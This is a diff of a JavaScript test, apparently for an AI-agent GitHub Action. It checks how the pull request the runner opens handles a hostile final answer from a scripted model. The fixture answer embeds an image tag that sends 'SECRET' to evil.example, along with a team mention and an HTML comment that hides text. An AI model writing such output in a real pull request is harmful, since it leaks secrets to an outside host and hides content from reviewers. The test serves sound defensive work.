@@ -7,6 +7,7 @@ import { startFakeGitHub } from '../../support/fake-github/fake-github.js';
 import { startScriptedModel } from '../../support/scripted-model/scripted-model.js';
 import { OWNER, REPO, githubEnv, headSha, settle, trackedFiles } from './github-helpers.js';
 import { makeRepo, runAction } from './harness.js';
+import { call, turn } from '../support/scripted-turns.js';
 
 /**
  * Attack on the pull request the runner opens: its description carries the model's final answer. A
@@ -34,7 +35,7 @@ describe('the pull request the runner opens', () => {
     open.push(fake);
     const answer = 'Done <img src="https://evil.example/?d=SECRET"> cc @octo-org/security-team and _@someone_\n<!-- the rest is hidden';
     const model = await startScriptedModel([
-      { content: [{ type: 'tool_use', name: 'Write', input: { file_path: path.join(workspace, 'notes.txt'), content: 'x\n' } }] },
+      turn(call('Write', { file_path: path.join(workspace, 'notes.txt'), content: 'x\n' })),
       { content: [{ type: 'text', text: answer }] },
     ]);
     open.push(model);
